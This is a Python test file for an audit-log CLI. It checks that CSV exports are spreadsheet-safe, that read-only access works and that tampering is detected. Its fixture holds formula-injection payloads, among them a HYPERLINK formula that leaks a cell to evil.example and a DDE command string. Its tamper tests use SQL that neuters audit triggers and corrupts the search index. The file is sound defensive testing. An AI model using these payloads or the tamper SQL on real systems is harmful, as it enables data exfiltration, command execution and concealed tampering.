"""The log under hostile conditions: read-only auditors, spreadsheet-safe CSV, and a
``verify`` that sees altered triggers and (``--deep``) an emptied full-text index."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
from click.testing import CliRunner
from decaudit.cli.main import cli
from decaudit.engine.errors import LogError
from decaudit.engine.log import AuditLog

HOSTILE = {
    "id": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "title": "+cmd|' /C calc'!A0",
    "options": [
        {"title": "@SUM(1+1)", "kind": "incremental", "chosen": True},
        {"title": "-2+3", "kind": "do-nothing"},
    ],
}


def _check(folder: Path, db: Path, record: dict[str, object] = HOSTILE) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "r.json").write_text(json.dumps(record), encoding="utf-8")
    result = CliRunner().invoke(cli, ["check", str(folder), "--db", str(db), "-q"])
    assert result.exit_code in (0, 1), result.output


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "log" / "audit.db"
    path.parent.mkdir()
    _check(tmp_path / "in", path)
    return path


def _cli(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


# -- 6. spreadsheet-safe CSV ------------------------------------------------------------------


FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "args",
    [
        ("findings", "-f", "csv"),
        ("history", HOSTILE["id"], "-f", "csv"),
        ("runs", "-f", "csv"),
    ],
)
def test_csv_cells_never_start_a_formula(db: Path, args: tuple[str, ...]) -> None:
    text = _cli(*args, "--db", str(db))
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA)]
    if args[0] == "findings":
        assert any(c.startswith("'=HYPERLINK(") for c in cells)


def test_safe_cell_follows_owasp() -> None:
    from decaudit.cli.output import render_csv

    text = render_csv(["a", "b", "c"], [["=1+2", -5, "\tx"], ["plain", 3.5, "@x"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=1+2", "-5", "'\tx"]  # numbers stay numbers
    assert rows[2] == ["plain", "3.5", "'@x"]


# -- 5. read-only logs --------------------------------------------------------------------------


def _side_files(db: Path) -> list[str]:
    return sorted(p.name for p in db.parent.iterdir() if p.name != db.name)


def test_read_commands_leave_no_wal_or_shm(db: Path) -> None:
    for args in (
        ("runs",),
        ("findings",),
        ("verify",),
        ("verify", "--deep"),
        ("history", HOSTILE["id"]),
        ("waive", "--list"),
    ):
        _cli(*args, "--db", str(db))
        assert _side_files(db) == [], args


def test_a_read_connection_cannot_write(db: Path) -> None:
    with AuditLog.read(db) as log, pytest.raises(sqlite3.OperationalError):
        log.conn.execute("CREATE TABLE x (a)")


def test_reading_a_missing_log_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(LogError, match="no audit log here"):
        AuditLog.read(tmp_path / "none.db")


_BOOT = (
    "import site, sys; site.addsitedir(sys.argv.pop(1)); "
    "from decaudit.cli.main import main; sys.argv[0] = 'decaudit'; main()"
)


def _interpreters() -> list[str]:
    """This interpreter, and the system one of the same version (a virtual environment
    under a private home folder cannot be run by another user)."""
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    return [sys.executable, f"/usr/bin/python{version}"]


def _as_nobody(*args: str, python: str | None = None) -> subprocess.CompletedProcess[str]:
    """Run the CLI as the unprivileged user ``nobody`` (needs root to switch)."""

    def drop() -> None:
        os.setgid(65534)
        os.setgroups([])
        os.setuid(65534)

    site = sysconfig.get_paths()["purelib"]
    return subprocess.run(
        [python or sys.executable, "-c", _BOOT, site, *args],
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=drop,
        cwd="/",
    )


def _usable_python() -> str | None:
    for python in _interpreters():
        try:
            if _as_nobody("--version", python=python).returncode == 0:
                return python
        except OSError:
            continue
    return None


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to an unprivileged user needs root")
@pytest.mark.parametrize("folder_mode", [0o755, 0o777])
def test_an_auditor_without_write_access_reads_the_log(
    db: Path, tmp_path_factory: pytest.TempPathFactory, folder_mode: int
) -> None:
    shared = Path("/tmp") / f"decaudit-ro-{os.getpid()}-{folder_mode:o}"
    shutil.rmtree(shared, ignore_errors=True)
    shared.mkdir()
    try:
        log = shared / "audit.db"
        shutil.copy(db, log)
        os.chmod(log, 0o644)  # owned by root, readable by everyone
        os.chmod(shared, folder_mode)
        python = _usable_python()
        if python is None:
            pytest.skip("no Python interpreter that the user nobody may run")
        for args in (
            ("runs",),
            ("findings", "-f", "csv"),
            ("history", HOSTILE["id"]),
            ("verify",),
            ("verify", "--deep"),
            ("diff", "1", "1"),
            ("waive", "--list"),
        ):
            proc = _as_nobody(*args, "--db", str(log), python=python)
            assert proc.returncode == 0, (args, proc.stdout, proc.stderr)
            assert "readonly" not in proc.stderr
            assert sorted(p.name for p in shared.iterdir()) == ["audit.db"], args
    finally:
        shutil.rmtree(shared, ignore_errors=True)


# -- 11. tamper detection --------------------------------------------------------------------


def _tamper(db: Path, sql: str) -> None:
    conn = sqlite3.connect(db)
    conn.executescript(sql)
    conn.close()


def _verify(db: Path, *extra: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["verify", "--db", str(db), *extra])
    return result.exit_code, result.output


def test_a_no_op_trigger_under_the_same_name_is_caught(db: Path) -> None:
    _tamper(
        db,
        "DROP TRIGGER findings_no_update;"
        "CREATE TRIGGER findings_no_update BEFORE UPDATE ON findings BEGIN SELECT 1; END;",
    )
    code, out = _verify(db)
    assert code == 1
    assert "findings_no_update was altered" in out


def test_an_extra_trigger_on_a_log_table_is_caught(db: Path) -> None:
    _tamper(db, "CREATE TRIGGER sneaky AFTER INSERT ON runs BEGIN SELECT 1; END;")
    code, out = _verify(db)
    assert code == 1 and "unexpected trigger sneaky" in out


def test_deep_verify_catches_an_emptied_full_text_index(db: Path) -> None:
    assert _verify(db, "--deep")[0] == 0
    _tamper(db, "INSERT INTO findings_fts(findings_fts) VALUES('delete-all');")
    assert _verify(db)[0] == 0  # the chain itself is intact
    code, out = _verify(db, "--deep")
    assert code == 1 and "missing from the full-text index" in out


def test_deep_verify_catches_an_index_that_lies(db: Path) -> None:
    conn = sqlite3.connect(db)
    fid, message = conn.execute("SELECT id, message FROM findings LIMIT 1").fetchone()
    # remove the real entry and index another text under the same id
    conn.execute(
        "INSERT INTO findings_fts(findings_fts, rowid, message) VALUES('delete', ?, ?)",
        (fid, message),
    )
    conn.execute("INSERT INTO findings_fts(rowid, message) VALUES (?, 'nothing to see')", (fid,))
    conn.commit()
    conn.close()
    code, out = _verify(db, "--deep")
    assert code == 1 and f"id={fid}" in out and "does not hold this finding" in out
